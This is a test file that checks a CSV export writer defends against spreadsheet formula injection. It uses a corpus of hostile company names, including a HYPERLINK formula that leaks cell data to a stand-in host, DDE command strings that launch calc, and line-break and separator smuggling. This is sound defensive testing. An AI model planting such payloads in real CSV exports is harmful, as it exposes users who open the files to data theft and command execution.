// The one CSV cell writer of every Rivals CSV (API downloads, my-companies export, dashboard, CLI), against a corpus of
// hostile company names: read back by a CSV parser (comma-separated, and as a spreadsheet of a ';' locale would split
// it), every cell is the name as written, or the name behind a ' when it would start a formula; no cell starts with a
// formula lead, and no line break or separator inside a name makes a row or a cell of its own.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, toCsv } from '@rivals/contracts';
import { csv as cliCsv } from '../../../packages/cli/src/format.js';

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\uFF1DHYPERLINK("http://evil.example")',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(A1)',
  '\tcmd',
  '\rcmd',
  '\ncmd',
  'Acme\r=cmd|" /C calc"!A0',
  'Acme\n+1+1',
  'Acme\r\n@SUM(1)',
  'Acme;=cmd|" /C calc"!A0',
  'Acme, Inc.',
  'say "hi"',
  '"=quoted"',
  "'already quoted",
  'Plain Name',
  'Ünïcödé Gmbh',
  '',
];
const LEADS = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r\n]/;

describe('csvCell', () => {
  it.each(HOSTILE_NAMES)('writes %j so that it reads back whole and never as a formula', (name) => {
    const file = toCsv(['company', 'domain'], [[name, 'acme.com']]);
    // Split on commas (the file's separator), and a one-column file split on ';' as a spreadsheet of such a locale does.
    for (const [text, delimiter] of [[file, ','], [toCsv(['company'], [[name]]), ';']] as const) {
      const rows = parse(text, { delimiter, record_delimiter: '\r\n' }) as string[][];
      expect(rows).toHaveLength(2);
      expect(rows[1]).toHaveLength(delimiter === ',' ? 2 : 1);
      for (const cell of rows.flat()) expect(cell).not.toMatch(LEADS);
    }
    const [, [company, domain]] = parse(file, { record_delimiter: '\r\n' }) as string[][] as [string[], [string, string]];
    expect(company).toBe(LEADS.test(name) ? `'${name}` : name);
    expect(domain).toBe('acme.com');
  });

  it('quotes every cell holding a separator, a quote or a line break, and nothing plain', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell('\uFF1D1+1')).toBe("\"'\uFF1D1+1\"");
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvRow(['a', '=b', 'c;d'])).toBe(`a,"'=b","c;d"`);
  });

  it('is the writer of the dashboard and the CLI too', async () => {
    // Loaded by path: the dashboard's module is typed for the browser (its own tsconfig), not for the tests'.
    const dashboardModule: string = '../../../packages/dashboard/src/csv.js';
    const { toCsv: dashboardCsv } = (await import(dashboardModule)) as { toCsv: (columns: string[], rows: Record<string, unknown>[]) => string };
    for (const name of HOSTILE_NAMES) {
      const expected = toCsv(['company'], [[name]]);
      expect(dashboardCsv(['company'], [{ company: name }])).toBe(expected);
      expect(cliCsv(['company'], [[name]])).toBe(`company\n${csvRow([name])}`);
    }
  });
});
